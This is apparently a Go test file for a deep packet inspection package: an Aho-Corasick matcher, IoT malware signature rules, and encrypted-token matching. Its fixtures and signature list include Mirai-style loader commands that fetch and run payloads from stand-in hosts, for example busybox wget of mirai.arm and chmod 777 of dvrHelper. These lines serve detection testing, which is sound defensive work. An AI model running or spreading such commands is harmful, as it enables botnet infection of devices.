package dpi

import (
	"bytes"
	"cmp"
	"math/rand"
	"slices"
	"testing"
	"testing/quick"
)

func TestMatcherBasics(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("he"), []byte("she"), []byte("his"), []byte("hers")})
	got := m.FindAll([]byte("ushers"))
	// Classic AC example: "ushers" contains she(4), he(4), hers(6).
	want := map[Match]bool{
		{Pattern: 1, End: 4}: true, // she
		{Pattern: 0, End: 4}: true, // he
		{Pattern: 3, End: 6}: true, // hers
	}
	if len(got) != len(want) {
		t.Fatalf("FindAll = %v, want 3 matches", got)
	}
	for _, g := range got {
		if !want[g] {
			t.Errorf("unexpected match %v", g)
		}
	}
}

func TestMatcherOverlapsAndRepeats(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("aa")})
	got := m.FindAll([]byte("aaaa"))
	if len(got) != 3 {
		t.Errorf("overlapping matches = %d, want 3", len(got))
	}
}

func TestMatcherContains(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("busybox")})
	if !m.Contains([]byte("run /bin/busybox now")) {
		t.Error("Contains missed pattern")
	}
	if m.Contains([]byte("nothing here")) {
		t.Error("Contains false positive")
	}
	if m.Contains(nil) {
		t.Error("Contains on empty input")
	}
}

func TestMatcherEmptyPatternsIgnored(t *testing.T) {
	m := NewMatcher([][]byte{{}, []byte("x")})
	if m.Contains([]byte("abc")) {
		t.Error("empty pattern matched input without the real pattern")
	}
	if !m.Contains([]byte("axc")) {
		t.Error("real pattern lost next to an empty one")
	}
}

// TestMatcherAgainstNaive is a property test: AC results equal naive
// search over random inputs and patterns.
func TestMatcherAgainstNaive(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	alphabet := []byte("abc")
	randBytes := func(n int) []byte {
		b := make([]byte, n)
		for i := range b {
			b[i] = alphabet[rng.Intn(len(alphabet))]
		}
		return b
	}
	for trial := 0; trial < 200; trial++ {
		var pats [][]byte
		for i := 0; i < 1+rng.Intn(5); i++ {
			pats = append(pats, randBytes(1+rng.Intn(4)))
		}
		checkMatcher(t, pats, randBytes(rng.Intn(60)))
	}
}

// FuzzMatcherFindAll holds the Aho-Corasick matcher, which reads
// attacker-controlled LAN payloads, to the naive scan on arbitrary
// patterns and data. Patterns are the first input split at 0x00.
func FuzzMatcherFindAll(f *testing.F) {
	f.Add([]byte("he\x00she\x00his\x00hers"), []byte("ushers"))
	f.Add([]byte("a\x00aa\x00aaa"), []byte("aaaaaa"))
	f.Add([]byte("abc\x00bc\x00\x00c\x00abc"), []byte("xabcabcbc"))
	f.Add([]byte("/bin/busybox\x00MIRAI"), []byte("GET /bin/busybox MIRAI"))
	f.Fuzz(func(t *testing.T, pats, data []byte) {
		if len(pats) > 256 || len(data) > 4096 {
			return
		}
		checkMatcher(t, bytes.Split(pats, []byte{0}), data)
	})
}

// checkMatcher compiles pats and requires FindAll to equal naiveMatches,
// as a sorted list of (pattern, end) pairs, and Contains to agree.
func checkMatcher(t *testing.T, pats [][]byte, data []byte) {
	t.Helper()
	m := NewMatcher(pats)
	got, want := m.FindAll(data), naiveMatches(m.patterns, data)
	byEnd := func(a, b Match) int { return cmp.Or(cmp.Compare(a.End, b.End), cmp.Compare(a.Pattern, b.Pattern)) }
	slices.SortFunc(got, byEnd)
	slices.SortFunc(want, byEnd)
	if !slices.Equal(got, want) {
		t.Fatalf("FindAll = %v, naive %v (pats=%q data=%q)", got, want, pats, data)
	}
	if c := m.Contains(data); c != (len(want) > 0) {
		t.Fatalf("Contains = %v with %d naive matches (pats=%q data=%q)", c, len(want), pats, data)
	}
}

// naiveMatches finds every occurrence of every pattern, overlapping ones
// included, by repeated bytes.Index from just past the last hit.
func naiveMatches(patterns [][]byte, data []byte) []Match {
	var out []Match
	for pi, p := range patterns {
		for off := 0; off < len(data); {
			i := bytes.Index(data[off:], p)
			if i < 0 {
				break
			}
			out = append(out, Match{Pattern: pi, End: off + i + len(p)})
			off += i + 1
		}
	}
	return out
}

func mustRules(t *testing.T) *RuleSet {
	t.Helper()
	rs, err := NewRuleSet(IoTMalwareRules())
	if err != nil {
		t.Fatal(err)
	}
	return rs
}

func TestRuleSetValidation(t *testing.T) {
	if _, err := NewRuleSet([]Rule{{ID: "", Keywords: []Keyword{{Pattern: []byte("abcd")}}}}); err == nil {
		t.Error("empty ID accepted")
	}
	if _, err := NewRuleSet([]Rule{{ID: "a", Keywords: nil}}); err == nil {
		t.Error("no keywords accepted")
	}
	if _, err := NewRuleSet([]Rule{{ID: "a", Keywords: []Keyword{{Pattern: []byte("ab")}}}}); err == nil {
		t.Error("short keyword accepted")
	}
	dup := []Rule{
		{ID: "a", Keywords: []Keyword{{Pattern: []byte("abcd"), Offset: -1}}},
		{ID: "a", Keywords: []Keyword{{Pattern: []byte("efgh"), Offset: -1}}},
	}
	if _, err := NewRuleSet(dup); err == nil {
		t.Error("duplicate rule ID accepted")
	}
}

func TestMatchPlainAllKeywordsRequired(t *testing.T) {
	rs := mustRules(t)
	// mirai-loader needs both "/bin/busybox" and "wget http://".
	half := []byte("telnet session: /bin/busybox MIRAI")
	if dets := rs.MatchPlain(half); len(dets) != 0 {
		t.Errorf("half signature fired: %v", dets)
	}
	full := []byte("/bin/busybox; wget http://203.0.113.5/mirai.arm; chmod 777 f")
	dets := rs.MatchPlain(full)
	found := map[string]bool{}
	for _, d := range dets {
		found[d.Rule.ID] = true
	}
	if !found["mirai-loader"] {
		t.Errorf("mirai-loader missed in %q; got %v", full, dets)
	}
}

func TestMatchPlainAnchoredOffset(t *testing.T) {
	rs := mustRules(t)
	// ota-unsigned anchors "FWIMG-UNSIGNED" at offset 0.
	if dets := rs.MatchPlain([]byte("FWIMG-UNSIGNED payload")); len(dets) != 1 {
		t.Errorf("anchored match failed: %v", dets)
	}
	if dets := rs.MatchPlain([]byte("xx FWIMG-UNSIGNED payload")); len(dets) != 0 {
		t.Errorf("mis-anchored match fired: %v", dets)
	}
}

func TestEncryptedDetectorMatchesPlain(t *testing.T) {
	rs := mustRules(t)
	tk, err := NewTokenizer([]byte("session-key"))
	if err != nil {
		t.Fatal(err)
	}
	det, err := NewEncryptedDetector(rs, tk)
	if err != nil {
		t.Fatal(err)
	}
	payloads := [][]byte{
		[]byte("/bin/busybox; wget http://cnc.botnet.example/a.sh"),
		[]byte("FWIMG-UNSIGNED xxxxxxxxxxxxxxxx"),
		[]byte("perfectly normal telemetry reading 23.5C"),
		[]byte("chmod 777 ./dvrHelper && ./dvrHelper"),
	}
	for _, p := range payloads {
		plain := rs.MatchPlain(p)
		enc := det.MatchTokens(tk.Tokenize(p))
		if len(plain) != len(enc) {
			t.Errorf("payload %q: plain=%d enc=%d detections", p, len(plain), len(enc))
			continue
		}
		pm := map[string]bool{}
		for _, d := range plain {
			pm[d.Rule.ID] = true
		}
		for _, d := range enc {
			if !pm[d.Rule.ID] {
				t.Errorf("payload %q: encrypted-only detection %s", p, d.Rule.ID)
			}
		}
	}
}

// TestEncryptedPlainEquivalence is the core property: for random payloads
// (with signatures sometimes embedded), encrypted matching equals
// plaintext matching.
func TestEncryptedPlainEquivalence(t *testing.T) {
	rs := mustRules(t)
	tk, _ := NewTokenizer([]byte("k2"))
	det, _ := NewEncryptedDetector(rs, tk)
	rng := rand.New(rand.NewSource(5))
	sigs := []string{"/bin/busybox", "wget http://", "cnc.botnet.example", "chmod 777", "./dvrHelper", "ssn=", "dob="}
	for trial := 0; trial < 300; trial++ {
		var payload []byte
		for i := 0; i < 1+rng.Intn(6); i++ {
			if rng.Intn(2) == 0 {
				payload = append(payload, sigs[rng.Intn(len(sigs))]...)
			}
			filler := make([]byte, rng.Intn(12))
			for j := range filler {
				filler[j] = byte('a' + rng.Intn(26))
			}
			payload = append(payload, filler...)
		}
		plain := rs.MatchPlain(payload)
		enc := det.MatchTokens(tk.Tokenize(payload))
		pm := map[string]bool{}
		for _, d := range plain {
			pm[d.Rule.ID] = true
		}
		em := map[string]bool{}
		for _, d := range enc {
			em[d.Rule.ID] = true
		}
		if len(pm) != len(em) {
			t.Fatalf("trial %d payload %q: plain %v != enc %v", trial, payload, pm, em)
		}
		for id := range pm {
			if !em[id] {
				t.Fatalf("trial %d payload %q: plain-only %s", trial, payload, id)
			}
		}
	}
}

func TestTokenizerKeySeparation(t *testing.T) {
	a, _ := NewTokenizer([]byte("key-a"))
	b, _ := NewTokenizer([]byte("key-b"))
	p := []byte("same payload bytes")
	ta := a.Tokenize(p)
	tb := b.Tokenize(p)
	same := 0
	for i := range ta {
		if ta[i] == tb[i] {
			same++
		}
	}
	if same != 0 {
		t.Errorf("%d/%d tokens collide across keys", same, len(ta))
	}
	if _, err := NewTokenizer(nil); err == nil {
		t.Error("empty key accepted")
	}
}

func TestTokenizeShortPayload(t *testing.T) {
	tk, _ := NewTokenizer([]byte("k"))
	if got := tk.Tokenize([]byte("abc")); got != nil {
		t.Errorf("short payload produced tokens: %v", got)
	}
	if got := tk.Tokenize([]byte("abcd")); len(got) != 1 {
		t.Errorf("4-byte payload tokens = %d, want 1", len(got))
	}
}

func TestEncryptedDetectorRequiresRules(t *testing.T) {
	empty, err := NewRuleSet(nil)
	if err != nil {
		t.Fatal(err)
	}
	tk, _ := NewTokenizer([]byte("k"))
	if _, err := NewEncryptedDetector(empty, tk); err == nil {
		t.Error("empty rule set accepted")
	}
}

func TestFindSeqProperty(t *testing.T) {
	f := func(hay []uint64, start uint8) bool {
		if len(hay) == 0 {
			return true
		}
		s := int(start) % len(hay)
		needle := hay[s:]
		if len(needle) == 0 {
			return true
		}
		pos := findSeq(hay, needle, -1)
		// Found position must actually match.
		if pos < 0 || pos > s {
			return false
		}
		for j, v := range needle {
			if hay[pos+j] != v {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}
